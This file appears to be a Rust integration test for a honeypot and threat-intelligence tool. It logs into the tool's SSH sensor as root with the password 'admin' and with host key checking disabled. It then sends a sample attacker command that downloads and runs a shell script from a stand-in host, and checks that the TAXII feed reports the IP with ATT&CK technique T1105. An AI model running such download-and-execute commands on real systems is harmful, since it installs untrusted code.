//! The first milestone, as a user sees it: `sikker up`, an attacker logs in over SSH with the
//! real OpenSSH client, and within a second of the session ending the IP's indicator, with
//! its behavior and ATT&CK techniques, is in the TAXII feed. Needs `ssh` and `sshpass`
//! (scripts/test installs them).

use std::io::{BufRead, BufReader};
use std::net::TcpListener;
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

struct Up(Child);

impl Drop for Up {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

fn free_port() -> u16 {
    TcpListener::bind("127.0.0.1:0")
        .unwrap()
        .local_addr()
        .unwrap()
        .port()
}

#[test]
fn ssh_login_reaches_the_taxii_feed_within_a_second() {
    for tool in ["ssh", "sshpass"] {
        let found = Command::new("sh")
            .args(["-c", &format!("command -v {tool}")])
            .output()
            .unwrap();
        assert!(
            found.status.success(),
            "{tool} is missing: run scripts/test, which installs it"
        );
    }
    let dir = tempfile::tempdir().unwrap();
    let (http, ssh) = (free_port(), free_port());
    let mut child = Command::new(env!("CARGO_BIN_EXE_sikker"))
        .args(["up", "--data", dir.path().to_str().unwrap()])
        .args(["--listen", &format!("127.0.0.1:{http}")])
        .args(["--sensor-listen", &format!("ssh=127.0.0.1:{ssh}")])
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let stdout = child.stdout.take().unwrap();
    let _up = Up(child);
    let mut key = None;
    for line in BufReader::new(stdout).lines() {
        let line = line.unwrap();
        if let Some(k) = line.split_whitespace().find(|w| w.starts_with("sk_free_")) {
            key.get_or_insert_with(|| k.to_owned());
        }
        if line.contains("sensor ssh") {
            break;
        }
    }
    let key = key.expect("sikker up prints an API key on first start");

    let status = Command::new("sshpass")
        .args(["-p", "admin"])
        .args([
            "ssh",
            "-o",
            "StrictHostKeyChecking=no",
            "-o",
            "UserKnownHostsFile=/dev/null",
        ])
        .args([
            "-o",
            "LogLevel=ERROR",
            "-p",
            &ssh.to_string(),
            "root@127.0.0.1",
        ])
        .arg("cd /tmp; wget http://198.51.100.3/bins.sh; chmod 777 bins.sh; sh bins.sh")
        .stdout(Stdio::null())
        .status()
        .unwrap();
    assert!(status.success());
    let ended = Instant::now();

    let url = format!(
        "http://127.0.0.1:{http}/taxii2/collections/sikker-threat-intel/objects/127.0.0.1/"
    );
    let indicator = loop {
        let out = Command::new("curl")
            .args(["-s", "-H", &format!("Authorization: Bearer {key}"), &url])
            .output()
            .unwrap();
        let body: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap_or_default();
        let o = &body["objects"][0];
        if o["labels"].is_array() {
            break o.clone();
        }
        assert!(
            ended.elapsed() < Duration::from_secs(1),
            "not in the feed a second after the session: {body}"
        );
        std::thread::sleep(Duration::from_millis(25));
    };
    assert_eq!(indicator["pattern"], "[ipv4-addr:value = '127.0.0.1']");
    assert_eq!(indicator["indicator_types"][0], "malicious-activity");
    assert!(indicator["confidence"].as_u64().unwrap() > 0);
    let techniques: Vec<&str> = indicator["external_references"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|r| r["source_name"] == "mitre-attack")
        .filter_map(|r| r["external_id"].as_str())
        .collect();
    assert!(techniques.contains(&"T1105"), "{techniques:?}");
    assert!(indicator["kill_chain_phases"]
        .as_array()
        .is_some_and(|p| !p.is_empty()));
}
